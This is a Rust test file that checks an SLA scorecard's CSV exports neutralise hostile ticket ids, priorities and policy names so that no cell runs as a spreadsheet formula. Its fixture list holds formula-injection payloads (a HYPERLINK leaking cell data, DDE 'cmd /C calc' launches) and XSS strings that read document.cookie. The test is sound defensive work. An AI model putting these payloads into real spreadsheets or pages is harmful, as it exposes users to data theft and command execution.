//! Hostile text through the SLA CSV exports: ticket ids, dimension values
//! and policy names written by anyone (formula injection, HTML, `javascript:`
//! URLs, bidi overrides, very long strings, quotes and line breaks) come out
//! as CSV that parses back to one cell per field, where no cell starts — even
//! after leading spaces — with a character a spreadsheet runs as a formula
//! (`= + - @`, tab, carriage return), and every neutralised cell is the
//! original text behind a single quote.
#![cfg(not(target_arch = "wasm32"))]

mod common;

use serde_json::json;
use sla_scorecard::sla::report::{self, Attribution, Period, ReportOptions};
use sla_scorecard::sla::{self, PolicySet};

fn hostile() -> Vec<String> {
    let mut list: Vec<String> = [
        "=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")",
        "=1+1",
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        " =1+1",
        "  +1",
        "\t=1+1",
        "=\"quoted, with comma\"",
        "a\"b,c\nd=1",
        "<script>alert(1)</script>",
        "<svg onload=alert(1)><img src=x onerror=alert(2)>",
        "javascript:alert(document.cookie)",
        "\u{202E}gpj.exe",
        "\u{200B}=zero width first",
        "\u{0007}bell",
        "ordinary",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    list.push(format!("={}", "A".repeat(100_000)));
    list
}

/// Whether a spreadsheet would read `cell` as a formula.
fn formula_like(cell: &str) -> bool {
    cell.trim_start_matches(' ').starts_with(['=', '+', '-', '@', '\t', '\r'])
}

fn parse(csv_text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new().has_headers(false).from_reader(csv_text.as_bytes()).records().map(|r| r.unwrap().iter().map(str::to_string).collect()).collect()
}

#[test]
fn hostile_text_is_neutralised_in_every_sla_export() {
    let list = hostile();
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["id", "opened", "resolved", "priority"]).unwrap();
    for (i, h) in list.iter().enumerate() {
        // Each ticket: opened at 09:00 on day i, resolved 2 h later (a 1 h target breaches).
        let opened = format!("2026-03-{:02}T09:00:00Z", i + 1);
        let resolved = format!("2026-03-{:02}T11:00:00Z", i + 1);
        w.write_record([format!("{h}#{i}").as_str(), &opened, &resolved, h]).unwrap();
    }
    let text = String::from_utf8(w.into_inner().unwrap()).unwrap();
    let loaded =
        common::load_csv(&text, json!({"mapping": {"id": "id", "opened": "opened", "resolved": "resolved", "dimensions": {"priority": "priority"}}})).unwrap();
    assert_eq!(loaded.summary.loaded, list.len(), "every hostile row loads");
    let ds = loaded.dataset;

    let policy_name = "=HYPERLINK(\"http://example.invalid\",\"policy\")";
    // A policy name with leading spaces (the policy reader trims them).
    let spaced_name = "  +cmd|' /C calc'!A0";
    let set = PolicySet::from_json(
        &json!({"policies": [
            {"name": policy_name, "metric": "resolution", "target": "1h"},
            {"name": spaced_name, "metric": "resolution", "target": "1h"}
        ]}),
        "",
    )
    .unwrap();
    let evaluation = sla::evaluate(&ds, &set, common::at("2026-04-01T00:00:00Z"));
    let opts = ReportOptions {
        period: Period::parse("month", "period").unwrap(),
        by: Attribution::parse("stop", "by").unwrap(),
        dimension: Some("priority".into()),
        zone: None,
    };
    let r = report::build(&ds, &set, &evaluation, &opts).unwrap();
    // Every ticket breaches both policies: 2 h taken for a 1 h target.
    assert_eq!(r.breaches.len(), 2 * list.len());

    let exports = [
        ("compliance", report::compliance_csv(&r.compliance), r.compliance.len()),
        ("breaches", report::breaches_csv(&r.breaches), r.breaches.len()),
        ("outcomes", report::outcomes_csv(&r.outcomes), r.outcomes.len()),
        // The CSV the JS API's `outcomes.toCsv()` writes, straight from the columns.
        ("outcome table", sla::OutcomeTable::evaluate(&ds, &set, evaluation.as_of).csv(&ds, &set), r.outcomes.len()),
    ];
    assert_eq!(exports[3].1, exports[2].1, "the columnar CSV is the report's text");
    for (name, csv_text, rows) in &exports {
        let table = parse(csv_text);
        assert_eq!(table.len(), rows + 1, "{name}: a header and one record per row");
        let width = table[0].len();
        for (i, record) in table.iter().enumerate() {
            assert_eq!(record.len(), width, "{name} line {i}: one cell per field");
            for cell in record {
                assert!(!formula_like(cell), "{name} line {i}: formula-like cell {:?}", &cell[..cell.len().min(60)]);
            }
        }
    }
    // The neutralised cells are the original text behind a quote: nothing is lost.
    let breaches = parse(&exports[1].1);
    let tickets: Vec<&str> = breaches[1..].iter().map(|r| r[0].as_str()).collect();
    for (i, h) in list.iter().enumerate() {
        let id = format!("{}#{i}", h.trim());
        let expected = if formula_like(&id) { format!("'{id}") } else { id.clone() };
        assert!(tickets.contains(&expected.as_str()), "ticket {:?} exported as itself", &id[..id.len().min(60)]);
    }
    assert!(breaches[1..].iter().all(|r| r[1] == format!("'{policy_name}") || r[1] == format!("'{}", spaced_name.trim())));
    // Dimension values in the compliance table, one row per hostile priority.
    let compliance = parse(&exports[0].1);
    for h in &list {
        let v = h.trim();
        let expected = if formula_like(v) { format!("'{v}") } else { v.to_string() };
        assert!(compliance.iter().any(|r| r[2] == expected), "priority {:?} in the compliance table", &v[..v.len().min(60)]);
    }
}
